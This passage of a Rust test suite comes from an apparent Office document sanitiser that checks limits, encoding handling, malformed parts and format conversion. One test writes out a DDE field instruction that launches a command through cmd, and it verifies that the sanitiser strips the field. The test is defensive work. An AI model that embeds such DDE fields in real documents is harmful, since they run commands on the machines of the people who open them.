    let relations = parts.0.iter().find(|(name, _)| name == "word/_rels/document.xml.rels").unwrap();
    let relations = String::from_utf8(relations.1.clone()).unwrap();
    assert_eq!(relations.matches("/image\"").count(), 3, "{relations}");
}

#[test]
fn a_chart_that_is_not_there_leaves_no_empty_frame() {
    let (_, text) = body(
        r#"<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="gone"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"#,
    );
    assert!(!text.contains("drawing"), "{text}");
}

#[test]
fn a_strict_document_becomes_a_transitional_one() {
    let strict = r#"<w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body><w:p><w:r><w:t>x</w:t></w:r></w:p><w:sectPr><w:pgSz w:w="595.3pt" w:h="29.7cm"/></w:sectPr></w:body></w:document>"#;
    let mut package = Package::default().relation(
        "",
        "rId1",
        "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
        "word/document.xml",
    );
    package = package.part("word/document.xml", strict);
    let (_, parts) = rebuilt(&package, "a.docx");
    let text = parts.text("document.xml");
    assert!(text.contains("schemas.openxmlformats.org/wordprocessingml/2006/main") && !text.contains("purl.oclc.org"));
    assert!(text.contains("<w:pgSz"), "{text}");
}

#[test]
fn a_part_in_utf_16_is_read() {
    let text = format!(
        "\u{FEFF}<?xml version=\"1.0\" encoding=\"UTF-16\"?><w:document {W}><w:body><w:p><w:r><w:t>広い</w:t></w:r></w:p></w:body></w:document>"
    );
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let (_, parts) = rebuilt(&Package::document("").bytes("word/document.xml", &wide), "a.docx");
    assert!(parts.text("document.xml").contains("広い"));
}

#[test]
fn a_broken_part_that_is_not_needed_is_left_out() {
    let package = Package::document("<w:p/>")
        .relation("word/document.xml", "t", "theme", "theme/theme1.xml")
        .part("word/theme/theme1.xml", "<broken");
    let (done, parts) = rebuilt(&package, "a.docx");
    assert!(!parts.has("theme1"));
    assert_eq!(done.place(Reason::UnknownContent).as_deref(), Some("theme1.xml"));
    let needed = Package::workbook("").part("xl/worksheets/sheet1.xml", "<broken").zip();
    assert_eq!(refusal(&needed, "a.xlsx"), Reason::Malformed);
}

#[test]
fn two_main_parts_are_two_documents() {
    let two = Package::document("<w:p/>")
        .relation("", "rId2", "officeDocument", "word/other.xml")
        .part("word/other.xml", "<a/>");
    assert_eq!(refusal(&two.zip(), "a.docx"), Reason::AmbiguousStructure);
}

#[test]
fn a_large_sheet_streams_and_keeps_every_cell() {
    let mut rows = String::new();
    for row in 1..=20_000 {
        rows.push_str(&format!(
            r#"<row r="{row}"><c r="A{row}"><v>{row}</v></c><c r="B{row}" t="str"><f>A{row}</f><v>b</v></c></row>"#
        ));
    }
    let late = r#"<sheetFormatPr defaultRowHeight="15"/>"#;
    let (done, cells) =
        sheet(&format!("<sheetData>{rows}</sheetData>{late}<mergeCells><mergeCell ref=\"A1:B1\"/></mergeCells>"));
    assert_eq!(cells.matches("<c ").count(), 40_000);
    assert!(cells.contains("<v>20000</v>") && cells.contains("A1:B1"), "the end of the sheet");
    assert!(done.has(Reason::StructureRepaired), "what comes too late for its place is told");
}

#[test]
fn fields_are_judged_in_documents_that_stream_too() {
    let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>"#);
    let field = |instruction: &str| {
        format!(
            "<w:p>{}<w:r><w:instrText>{instruction}</w:instrText></w:r>{}<w:r><w:t>shown</w:t></w:r>{}</w:p>",
            mark("begin"),
            mark("separate"),
            mark("end")
        )
    };
    let (done, text) = body(&format!("{}{}", field("PAGE"), field("DDE cmd /c calc")).repeat(8_000));
    assert_eq!(text.matches("shown").count(), 16_000);
    assert_eq!(text.matches("<w:fldChar ").count(), 3 * 8_000);
    assert!(!text.contains("calc"));
    assert!(done.has(Reason::DdeLink));
}

#[test]
fn limits_hold_at_one_more_and_not_before() {
    let within = |package: &Package, change: &dyn Fn(&mut Limits)| {
        let mut limits = Limits::default();
        change(&mut limits);
        rooms::sanitise_within(&package.zip(), "a.docx", &limits).map_err(|refused| refused.refusal.reason).map(|_| ())
    };
    // document, body, paragraph, run, text
    let nested = Package::document("<w:p><w:r><w:t>x</w:t></w:r></w:p>");
    assert_eq!(within(&nested, &|limits| limits.markup_depth = 5), Ok(()));
    assert_eq!(within(&nested, &|limits| limits.markup_depth = 4), Err(Reason::LimitMarkup));
    assert_eq!(within(&nested, &|limits| limits.markup = 5), Ok(()));
    assert_eq!(within(&nested, &|limits| limits.markup = 4), Err(Reason::LimitMarkup));
    let parts = Package::document("<w:p/>")
        .relation("word/document.xml", "s", "settings", "settings.xml")
        .part("word/settings.xml", &format!("<w:settings {W}/>"));
    assert_eq!(within(&parts, &|limits| (limits.office_parts, limits.parts) = (2, 5)), Ok(()));
    assert_eq!(within(&parts, &|limits| (limits.office_parts, limits.parts) = (1, 5)), Err(Reason::LimitParts));
    assert_eq!(within(&parts, &|limits| limits.relationships = 1), Ok(()));
    assert_eq!(within(&parts, &|limits| limits.relationships = 0), Err(Reason::LimitResources));
}

#[test]
fn a_part_that_unpacks_to_too_much_is_refused_before_it_is_read() {
    let blank = |bytes: usize| Package::workbook(&format!("<sheetData/><!--{}-->", " ".repeat(bytes))).zip();
    assert_eq!(refusal(&blank(16 * 1024 * 1024), "a.xlsx"), Reason::LimitRatio);
    // As drawings of blank paper in bitmaps do, whose size is nobody's danger.
    assert!(sanitise(&blank(15 * 1024 * 1024), "a.xlsx").is_ok());
}

#[test]
fn attributes_that_are_there_twice_refuse_the_part() {
    let twice = format!(
        r#"<w:document {W} xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:pPr><w:ind w:left="1" q:left="2"/></w:pPr></w:p></w:body></w:document>"#
    );
    assert_eq!(refusal(&Package::document("").part("word/document.xml", &twice).zip(), "a.docx"), Reason::Malformed);
}

/// A presentation of one slide with this in its tree of shapes.
fn slide(shapes: &str, more: impl Fn(Package) -> Package) -> (Sanitised, String) {
    let names = format!("{P} {A} {R} {MC}");
    let tree = |shapes: &str| {
        format!(
            r#"<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{shapes}</p:spTree></p:cSld>"#
        )
    };
    let package = Package::with_main("ppt/presentation.xml", PRESENTATION)
        .part(
            "ppt/presentation.xml",
            &format!(r#"<p:presentation {names}><p:sldIdLst><p:sldId id="256" r:id="s"/></p:sldIdLst><p:notesSz cx="1" cy="1"/></p:presentation>"#),
        )
        .relation("ppt/presentation.xml", "s", "slide", "slides/slide1.xml")
        .part("ppt/slides/slide1.xml", &format!("<p:sld {names}>{}</p:sld>", tree(shapes)));
    let (done, parts) = rebuilt(&more(package), "a.pptx");
    let text = parts.text("slides/slide");
    (done, text)
}

/// A picture that is partly clear.
fn png() -> Vec<u8> {
    rooms::fixture("half.png")
}
